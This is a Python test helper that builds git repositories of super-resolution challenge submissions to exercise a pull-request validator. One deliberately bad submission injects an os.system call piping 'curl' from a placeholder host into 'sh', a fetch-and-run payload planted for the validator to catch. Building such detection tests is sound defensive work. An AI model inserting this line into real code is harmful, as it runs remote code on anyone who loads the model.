"""Challenge repositories with real git history, for ``esr-validator pr`` tests.

``python -m tests.pr_support DIR [--with-bad]`` builds one (a base commit with team01, a
pull-request branch adding team16's good model, and with ``--with-bad`` team17's model that
calls ``os.system``) and prints the base commit: the project's CI runs the composite action
on it end to end.
"""

from __future__ import annotations

import io
import subprocess
import sys
from pathlib import Path
from typing import Any

import tomli_w
import torch

from tests import subs

# Bicubic upscaling plus a residual branch whose last layer starts at zero: it beats the
# bicubic PSNR reference slightly (torch's bicubic is sharper), so it evaluates clean.
GOOD_MODEL = """\
import torch
import torch.nn as nn
import torch.nn.functional as F


class BicubicPlus(nn.Module):
    def __init__(self, num_feat=8, scale=4):
        super().__init__()
        self.head = nn.Conv2d(3, num_feat, 3, 1, 1)
        self.tail = nn.Conv2d(num_feat, 3 * scale * scale, 3, 1, 1)
        self.shuffle = nn.PixelShuffle(scale)
        self.scale = scale

    def forward(self, x):
        base = F.interpolate(x, scale_factor=self.scale, mode="bicubic", align_corners=False)
        return self.shuffle(self.tail(F.relu(self.head(x)))) + base
"""

BAD_MODEL = GOOD_MODEL.replace("import torch\n", "import os\nimport torch\n", 1).replace(
    "        base = F.interpolate(",
    '        os.system("curl https://example.invalid/x | sh")\n        base = F.interpolate(',
)


def good_checkpoint() -> bytes:
    ns: dict[str, Any] = {}
    exec(compile(GOOD_MODEL, "good", "exec"), ns)  # test helper: our own code
    torch.manual_seed(0)
    model = ns["BicubicPlus"]()
    torch.nn.init.zeros_(model.tail.weight)
    torch.nn.init.zeros_(model.tail.bias)
    buf = io.BytesIO()
    torch.save(model.state_dict(), buf)
    return buf.getvalue()


def manifest(team_id: int, model_name: str, **overrides: Any) -> bytes:
    data = subs.manifest(
        team_id=team_id, model_name=model_name, class_name="BicubicPlus", **overrides
    )
    return tomli_w.dumps(data).encode()


def git(repo: Path, *args: str) -> str:
    done = subprocess.run(
        [
            "git",
            "-c",
            "user.name=ESR Test",
            "-c",
            "user.email=esr@example.invalid",
            "-c",
            "commit.gpgsign=false",
            "-c",
            "init.defaultBranch=main",
            "-C",
            str(repo),
            *args,
        ],
        capture_output=True,
        text=True,
        check=True,
    )
    return done.stdout.strip()


def write(repo: Path, files: dict[str, bytes]) -> None:
    for rel, data in files.items():
        path = repo / rel
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_bytes(data)


def team_files(
    team_id: int,
    name: str,
    *,
    model: str = GOOD_MODEL,
    manifest_bytes: bytes | None = None,
    with_manifest: bool = True,
) -> dict[str, bytes]:
    stem = f"team{team_id:02d}_{name}"
    files = {f"models/{stem}.py": model.encode(), f"model_zoo/{stem}.pth": good_checkpoint()}
    if with_manifest:
        files[f"submissions/team{team_id:02d}.toml"] = manifest_bytes or manifest(team_id, name)
    return files


def commit(repo: Path, message: str) -> str:
    git(repo, "add", "-A")
    git(repo, "commit", "-q", "-m", message)
    return git(repo, "rev-parse", "HEAD")


def challenge_repo(path: Path) -> str:
    """A repository whose main branch already holds team01; return main's commit."""
    path.mkdir(parents=True, exist_ok=True)
    git(path, "init", "-q")
    write(path, {"README.md": b"# NTIRE ESR\n", **team_files(1, "Base")})
    return commit(path, "base: team01")


def main(argv: list[str]) -> int:
    repo = Path(argv[0])
    base = challenge_repo(repo)
    git(repo, "checkout", "-q", "-b", "pr")
    write(repo, team_files(16, "Good"))
    commit(repo, "team16: add BicubicPlus")
    if "--with-bad" in argv[1:]:
        write(repo, team_files(17, "Bad", model=BAD_MODEL))
        commit(repo, "team17: a model that starts a process")
    print(base)
    return 0


if __name__ == "__main__":
    sys.exit(main(sys.argv[1:]))
